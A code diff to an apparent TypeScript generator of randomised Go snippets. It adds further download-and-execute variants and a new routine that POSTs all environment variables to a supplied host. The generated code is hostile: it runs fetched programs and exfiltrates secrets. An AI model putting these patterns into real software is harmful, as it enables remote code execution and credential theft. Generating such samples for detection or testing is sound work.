@@ -117,9 +117,11 @@ function download(parts: ActParts): string[] {
   const folder = random.chance(0.8) ? `${os}.TempDir()` : `${os}.Getenv("HOME")`;
   const failed = [`if err != nil {`, `\t${leave}`, '}'];
   const run = random.pick([
-    `${code.use('os/exec')}.Command(${path}).Start()`,
-    `_ = ${code.use('os/exec')}.Command(${path}).Run()`,
-  ]);
+    () => `${code.use('os/exec')}.Command(${path}).Start()`,
+    () => `_ = ${code.use('os/exec')}.Command(${path}).Run()`,
+    () => `_, _ = ${os}.StartProcess(${path}, []string{${path}}, &${os}.ProcAttr{})`,
+    () => `_, _ = ${code.use('plugin')}.Open(${path})`,
+  ])();
   return [
     ...fetched(answer, parts),
     ...failed,
@@ -184,6 +186,7 @@ function saved(
 function dial(parts: ActParts): string[] {
   const { code, main, leave, say, onWindows } = parts;
   const { random, names } = code;
+  if (random.chance(0.2)) return posted(parts);
   const connection = names.fresh();
   const net = code.use('net');
   const opened = random.pick([
@@ -214,6 +217,17 @@ function dial(parts: ActParts): string[] {
   return random.chance(0.5) ? [...head, ...body] : [...head, 'for {', ...indented(body), '}'];
 }
 
+/** What the machine knows of itself is sent away. */
+function posted({ code, main }: ActParts): string[] {
+  const [http, strings, os] = ['net/http', 'strings', 'os'].map((path) => code.use(path));
+  const [said, address] = [code.names.fresh(), code.names.fresh()];
+  return [
+    `${said} := ${strings}.NewReader(${strings}.Join(${os}.Environ(), "\\n"))`,
+    `${address} := "http://" + ${main} + "/"`,
+    `${http}.Post(${address}, "text/plain", ${said})`,
+  ];
+}
+
 function startProcess(parts: ActParts): string[] {
   const { code, main, say, leave, onWindows } = parts;
   const { random, names } = code;
@@ -227,6 +241,12 @@ function startProcess(parts: ActParts): string[] {
     `&${os}.ProcAttr{Dir: ${os}.TempDir(), Env: ${os}.Environ()}`,
   ]);
   const head = [`${list} := []string{${say(program)}, ${quoted(flag)}, ${main}}`];
+  if (random.chance(0.25)) {
+    const syscall = code.use('syscall');
+    return random.chance(0.5)
+      ? [...head, `_ = ${syscall}.Exec(${list}[0], ${list}, ${os}.Environ())`]
+      : [...head, `${syscall}.StartProcess(${list}[0], ${list}, &${syscall}.ProcAttr{Env: ${os}.Environ()})`];
+  }
   if (random.chance(0.5)) return [...head, `_, _ = ${os}.StartProcess(${list}[0], ${list}, ${attributes})`];
   const started = names.fresh();
   return [
